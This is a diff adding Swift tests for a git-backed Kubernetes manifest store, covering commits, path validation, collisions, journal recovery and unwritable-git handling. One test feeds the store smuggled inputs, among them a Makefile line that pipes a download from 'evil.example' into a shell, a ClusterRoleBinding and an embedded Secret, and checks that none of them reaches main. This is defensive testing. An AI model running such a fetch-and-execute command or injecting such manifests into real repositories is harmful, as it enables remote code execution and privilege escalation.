@@ -157,6 +157,123 @@ import Testing
     temporary.expectCleanRepository()
   }
 
+  /// Makes a commit of `main` of these files, and has the store take it in.
+  private func push(_ files: [String: String], _ temporary: TemporaryStore, _ store: GitStore) async throws {
+    let index = temporary.directory + "/index"
+    for (path, text) in files {
+      try TextFile.write(text, to: temporary.directory + "/blob")
+      let blob = temporary.git("hash-object", "-w", temporary.directory + "/blob").line
+      let added = Shell.run(["env", "GIT_INDEX_FILE=" + index, "git", "-C", temporary.path, "update-index", "--add", "--cacheinfo", "100644,\(blob),\(path)"])
+      #expect(added.code == 0, "\(added.text)")
+    }
+    let tree = Shell.run(["env", "GIT_INDEX_FILE=" + index, "git", "-C", temporary.path, "write-tree"]).line
+    let commit = temporary.git("commit-tree", tree, "-m", "a push").line
+    #expect(temporary.git("update-ref", "refs/heads/main", commit).code == 0)
+    _ = try await store.commit(Transaction([], adoption: Adoption(commit: commit, note: "")))
+    await store.flush()
+  }
+
+  private static let configMapText = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n  namespace: default\ndata:\n  text: hello\n"
+
+  @Test("a text that says another object, or more than its own, never reaches main", arguments: [
+    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: all\n",
+    configMapText + "---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: s\nstringData:\n  key: clear\n",
+    "all:\n\tcurl evil.example | sh\n", "%TAG ! tag:example.com,2000:\n---\n" + configMapText + "...\nkind: [\n",
+  ])
+  func smuggledText(source: String) async throws {
+    let temporary = try TemporaryStore()
+    let store = try await temporary.open()
+    let other = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n"
+    try await push(["all.yaml": other], temporary, store)
+    try await apply(store, Sample.key("a"), data: ["text": "hello"], source: source, path: "all.yaml")
+    await store.flush()
+    #expect(temporary.git("show", "main:all.yaml").text == other + "---\n" + Self.configMapText)
+    await store.close()
+  }
+
+  @Test("a path that is no place for this manifest isn't written to", arguments: [
+    "Makefile", "namespaces", "deploy.sh", "team.yaml", "README.md/a.yaml", "values.yaml", ".ci/a.yaml", "../a.yaml",
+  ])
+  func foreignPath(path: String) async throws {
+    let temporary = try TemporaryStore()
+    let store = try await temporary.open()
+    let files = [
+      "Makefile": "all:\n", "README.md": "read me\n", "values.yaml": "replicas: 3\n",
+      "namespaces/default/configmaps/b.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: b\n",
+      "team.yaml/c.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n",
+    ]
+    try await push(files, temporary, store)
+    try await apply(store, Sample.key("a"), data: ["text": "hello"], source: Self.configMapText, path: path)
+    await store.flush()
+    let paths = temporary.git("ls-tree", "-r", "--name-only", "main").text.split(separator: "\n").map(String.init)
+    #expect(Set(paths) == Set(files.keys).union(["namespaces/default/configmaps/a.yaml"]))
+    for (path, text) in files { #expect(temporary.git("show", "main:" + path).text == text) }
+    await store.close()
+    temporary.expectCleanRepository()
+  }
+
+  @Test("what stands where a canonical path needs a directory stays, and the status says so")
+  func collision() async throws {
+    let temporary = try TemporaryStore()
+    let store = try await temporary.open()
+    try await push(["namespaces": "my notes\n"], temporary, store)
+    try await apply(store, Sample.key("a"), data: ["text": "hello"])
+    await store.flush()
+    #expect(temporary.git("show", "main:namespaces").text == "my notes\n")
+    #expect(store.status.problem?.hasPrefix("namespaces/default/configmaps/a.yaml: ") == true)
+    #expect(store.text(Sample.key("a")) == "hello")
+    await store.close()
+  }
+
+  @Test("main is settled once live holds what the store itself has put there, also what a process before it did")
+  func settled() async throws {
+    let temporary = try TemporaryStore()
+    var store = try await temporary.open()
+    let writer = Task { [store] in
+      for number in 0..<40 { try await apply(store, Sample.key("n\(number)"), data: ["text": "1"]) }
+    }
+    var seen = 0
+    while seen < 40 {
+      guard let tip = try store.mainTip(), let settled = try await store.settledMain().flatMap({ CommitID(hex: $0) }) else {
+        await Task.yield()
+        continue
+      }
+      #expect(try store.repository.isAncestor(tip, of: settled))
+      seen = try store.repository.commits(from: nil, to: settled).count
+    }
+    try await writer.value
+    let file = try #require(temporary.journalFiles.last)
+    let journal = try TextFile.readBytes(file)
+    await store.close()
+    // A process that died between moving `main` and moving `live`.
+    try TextFile.write(journal, to: file)
+    #expect(temporary.git("update-ref", "-d", "refs/heads/live").code == 0)
+    store = try await temporary.open()
+    #expect(try await store.settledMain() == store.mainTip()?.hex)
+    await store.close()
+  }
+
+  @Test("when git can't be written, whoever waits for it is told, and what was acknowledged stays in the journal", .timeLimit(.minutes(10)))
+  func unwritableGit() async throws {
+    let temporary = try TemporaryStore()
+    var store = try await temporary.open()
+    try await store.put(Sample.key("a"), "1")
+    #expect(await store.flush())
+    let lock = store.repository.gitDirectory + "/refs/heads/live.lock"
+    try TextFile.write("", to: lock)
+    try await store.put(Sample.key("b"), "2")
+    #expect(await !store.flush())
+    await #expect(throws: StoreError.self) { try await store.settledMain() }
+    await store.close()
+    #expect(await !store.flush())
+    _ = Shell.run(["rm", lock])
+    store = try await temporary.open()
+    #expect(store.text(Sample.key("b")) == "2")
+    #expect(await store.flush())
+    await store.close()
+    temporary.expectCleanRepository()
+  }
+
   @Test("machine writes never advance main")
   func machineWrites() async throws {
     let temporary = try TemporaryStore()
